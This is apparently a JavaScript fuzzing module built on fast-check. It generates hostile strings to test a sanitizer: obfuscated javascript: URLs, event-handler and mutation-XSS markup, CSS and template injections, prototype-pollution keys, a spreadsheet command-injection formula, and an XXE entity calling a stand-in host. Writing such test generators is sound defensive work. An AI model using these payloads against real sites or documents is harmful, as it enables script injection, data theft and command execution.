/**
 * Generators of texts that try to become more than text where they are written: markup, scripts, styles, addresses,
 * formulas, templates. What they run or fetch is caught by `sinks.mjs`.
 */

import fc from 'fast-check';

/** A host that no browser finds. A page that asks for it, or may not ask, is caught. */
const HOST = '//hostile.invalid';

const code = fc.constantFrom(
  '__hit(1)',
  'self.__hit(1)',
  'top.__hit`1`',
  'this["__hi"+"t"](1)',
  `import('${HOST}/x.js')`,
  `fetch("${HOST}/x")`,
  'parent.__hit(document.domain)',
);
const space = fc.constantFrom(' ', ' ', '\n', '\t', '\f', '/', '\r\n', '\u00a0', '\0', '');
const quote = fc.constantFrom('"', '"', "'", "'", '`', '');

/** Writes some letters as entities, with or without a semicolon, or as escapes of addresses and scripts. @param {fc.Arbitrary<string>} texts */
const disguised = (texts) =>
  fc
    .tuple(texts, fc.array(fc.nat(7), {minLength: 1, maxLength: 12}))
    .map(([text, ways]) =>
      [...text].map((letter, at) => disguise(letter, ways[at % ways.length])).join(''),
    );

/** @param {string} letter @param {number} way */
function disguise(letter, way) {
  const number = /** @type {number} */ (letter.codePointAt(0));
  const hex = number.toString(16);
  if (way === 1) return `&#${number};`;
  if (way === 2) return `&#x${hex};`;
  if (way === 3) return `&#0000${number}`;
  if (way === 4) return number < 128 ? `%${hex.padStart(2, '0')}` : letter;
  if (way === 5) return `\\u${hex.padStart(4, '0')}`;
  if (way === 6) return letter.toUpperCase();
  return letter;
}

const scheme = fc.constantFrom(
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  'java\nscript:',
  ' \u0001javascript:',
  'javascript\n:',
  'javascript:/*--></title></style></textarea></script>*/',
  'javascript://%0a',
  'vbscript:',
  'view-source:javascript:',
);
const address = fc.oneof(
  fc.tuple(scheme, code).map(([start, run]) => start + run),
  disguised(fc.tuple(scheme, code).map(([start, run]) => start + run)),
  code.map((run) => `data:text/html,<script>${run}</script>`),
  code.map((run) => `data:text/html;base64,${btoa(`<script>${run}</script>`)}`),
  code.map((run) => `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"/>`),
  fc.constantFrom(`${HOST}/x`, `https:${HOST}/x`, `\\\\hostile.invalid\\x`, `/\\hostile.invalid`),
);

const handler = fc.constantFrom(
  'onerror',
  'onload',
  'ONERROR',
  'onfocus',
  'ontoggle',
  'onbegin',
  'onanimationstart',
  'onbeforetoggle',
  'onpointerenter',
  'on\u0000error',
);
const element = fc.constantFrom(
  'img src=x',
  'svg',
  'svg/onload=""',
  'body',
  'input autofocus',
  'details open',
  'video src=x',
  'audio src=x',
  'marquee',
  'iframe',
  'object data=x',
  'embed src=x',
  'bert-scope',
  'math',
  'x:y',
  'style',
  'template',
  'image href=x',
);
/** An element with a handler. */
const handled = fc
  .tuple(element, space, handler, quote, fc.oneof(code, disguised(code)))
  .map(([name, gap, on, mark, run]) => `<${name}${gap}${on}=${mark}${run}${mark} data-hostile>`);

/** An element that takes an address. */
const addressed = fc
  .tuple(
    fc.constantFrom(
      ['<a data-hostile href=', '>x</a>'],
      ['<iframe data-hostile src=', '></iframe>'],
      ['<iframe data-hostile srcdoc=', '></iframe>'],
      ['<object data-hostile data=', '></object>'],
      ['<embed data-hostile src=', '>'],
      ['<base data-hostile href=', '>'],
      ['<link data-hostile rel=stylesheet href=', '>'],
      ['<meta data-hostile http-equiv=refresh content="0;url=', '">'],
      ['<form data-hostile action=', '><button>x</button></form>'],
      ['<button data-hostile formaction=', '>x</button>'],
      ['<script data-hostile src=', '></script>'],
      ['<svg data-hostile><a xlink:href=', '><text>x</text></a></svg>'],
      ['<svg data-hostile><use href=', '></use></svg>'],
      ['<svg data-hostile><a><set attributeName=href to=', '></set><text>x</text></a></svg>'],
      ['<svg data-hostile><animate attributeName=href values=', '></animate></svg>'],
      ['<svg data-hostile><image href=', '/></svg>'],
      ['<math data-hostile href=', '>x</math>'],
      ['<bert-scope data-hostile src=', '></bert-scope>'],
      ['<img data-hostile srcset=', '>'],
    ),
    quote,
    address,
  )
  .map(([[start, end], mark, to]) => start + mark + to + mark + end);

const script = code.map((run) => `<script data-hostile>${run}</script>`);

/** What ends the place that a text stands in. */
const breaker = fc.constantFrom(
  '"',
  "'",
  '>',
  '">',
  "'>",
  '"/>',
  '`>',
  '&quot;>',
  '-->',
  '--!>',
  ']]>',
  '?>',
  '%>',
  '</script>',
  '</script\t\n bar>',
  '</style>',
  '</title>',
  '</textarea>',
  '</noscript>',
  '</template>',
  '</svg>',
  '</math>',
  '</object>',
  '</iframe>',
  '</bert-scope>',
  '</p>',
  '<!--',
  '<!-->',
  '<!--<script>',
  '<![CDATA[',
  '<?xml-stylesheet href="x"?>',
  '\\',
  '\\"',
  "\\'",
  '"}',
  "'})",
  '*/',
  '//',
  '\\u003c/script>',
  '","__proto__":{"x":1},"y":"',
);

/** Markup that changes when it is parsed a second time. */
const mutating = code.chain((run) => {
  const image = `<img data-hostile src=x onerror=${run}>`;
  return fc.constantFrom(
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${image.replace('<', '&lt;')}">`,
    `<svg></p><style><a id="</style>${image}">`,
    `<noscript><p title="</noscript>${image}">`,
    `<form><math><mtext></form><form><mglyph><style></math>${image}`,
    `<svg><style>&lt;/style&gt;${image}`,
    `<select><option><style></option></select>${image}</style>`,
    `<textarea><p title="</textarea>${image}">`,
    `<svg><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml"></foreignObject>${image}`,
    `<svg><annotation-xml encoding="text/html">${image}</annotation-xml>`,
    `<x xmlns="http://www.w3.org/1999/xhtml"><![CDATA[${image}]]>`,
    `<!DOCTYPE x [<!ENTITY e "${image}"><!ENTITY f SYSTEM "${HOST}/f">]>&e;&f;`,
    `&lt;script&gt;${run}&lt;/script&gt;`,
    `&amp;lt;script&amp;gt;${run}`,
  );
});

const style = fc.constantFrom(
  `;background:url(${HOST}/x)`,
  `"; background-image: url(${HOST}/x); x: "`,
  `}*{background:url(${HOST}/x)}`,
  `@import "${HOST}/x.css";`,
  'x:expression(__hit(1))',
  '-moz-binding:url(#x)',
  `\\22;list-style:url(${HOST}/x)`,
  `var(--x,url(${HOST}/x))`,
  'position:fixed;inset:0;z-index:9999',
  `@font-face{font-family:x;src:url(${HOST}/x)}`,
  'rgb(0,0,0);--ink:red',
);

/** What other programs compute: templates of pages, regular expressions, Python, spreadsheets. */
const computed = fc.constantFrom(
  '{{constructor.constructor("__hit(1)")()}}',
  '{{ 7*7 }}',
  '{% include "x" %}',
  '{__hit(1)}',
  '${__hit(1)}',
  '#{__hit(1)}',
  '<%= __hit(1) %>',
  '<?lit$1$?>',
  '<?php __hit(1) ?>',
  '$lit$',
  '$&',
  "$'",
  '$`',
  '$1',
  '%s%n',
  '=HYPERLINK("//hostile.invalid")',
  '+1',
  '-1',
  '@SUM(1)',
  "=cmd|' /C calc'!A1",
  '@title@',
  '@snapshot@',
  ' data-attributes="@attributes@"',
  '"""',
  "'''",
  'f"{__import__(\'os\')}"',
);

const markdown = fc.constantFrom(
  '[x](javascript:__hit(1))',
  '![x](//hostile.invalid/x "t")',
  `[x]: ${HOST}/x`,
  '<javascript:__hit(1)>',
  '](x)',
  '\n\n',
  '\r\n\r\n',
  '\n\n<script data-hostile>__hit(1)</script>\n\n',
  '```',
  '`',
  '| a | b |\n| - | - |',
  '\n# x\n',
  '    ',
);

/** Names that objects have anyway, and those that files give a meaning to. */
const name = fc.constantFrom(
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  'valueOf',
  'length',
  'null',
  '[CLS]',
  '[SEP]',
  '##',
  'Ġ',
  '▁',
  '../../x',
  'C:\\x',
  'CON',
  '.',
  '0',
);

/** Signs that nobody sees, that turn the direction of others, or that XML, JSON, JavaScript or UTF-8 cannot hold. */
const sign = fc.constantFrom(
  '\u2028',
  '\u2029',
  '\u202e',
  '\u202d',
  '\u2066',
  '\u2069',
  '\u200f',
  '\u200b',
  '\u200d',
  '\ufeff',
  '\u00ad',
  '\u0085',
  '\u009b31m',
  '\u001b[31m',
  '\u001b]0;x\u0007',
  '\0',
  '\u0008',
  '\u007f',
  '\ufffe',
  '\uffff',
  '\ud800',
  '\udc00',
  '\udfff\ud800',
  '😀',
  '👩‍👩‍👧',
  'e\u0301\u0301',
  'ﷺ',
  'שלום',
  '\u{e0041}',
  '＜',
  '＂',
);

const word = fc.constantFrom('the', 'cat', 'sat', 'x', ' ', 'a b', '1', '');

const part = fc.oneof(
  {weight: 4, arbitrary: handled},
  {weight: 3, arbitrary: addressed},
  {weight: 2, arbitrary: script},
  {weight: 4, arbitrary: breaker},
  {weight: 2, arbitrary: mutating},
  {weight: 2, arbitrary: style},
  {weight: 2, arbitrary: computed},
  {weight: 2, arbitrary: markdown},
  {weight: 2, arbitrary: name},
  {weight: 3, arbitrary: sign},
  {weight: 2, arbitrary: address},
  {weight: 2, arbitrary: word},
);
const plain = fc
  .array(part, {minLength: 1, maxLength: 5})
  .map((parts) => parts.join('').slice(0, 500));

/** A text that tries to become more than text. */
export const hostileTexts = fc
  .oneof(
    {weight: 9, arbitrary: plain},
    {weight: 1, arbitrary: disguised(plain)},
    {weight: 1, arbitrary: plain.map((text) => JSON.stringify(text))},
    {weight: 1, arbitrary: plain.map((text) => encodeURIComponent(text.toWellFormed()))},
  )
  .map((text) => text.slice(0, 500));

/**
 * Makes texts: the same for the same seed.
 *
 * @param {number} count
 * @param {number} [seed]
 * @returns {string[]}
 */
export const someHostileTexts = (count, seed = 1) =>
  fc.sample(hostileTexts, {numRuns: count, seed});
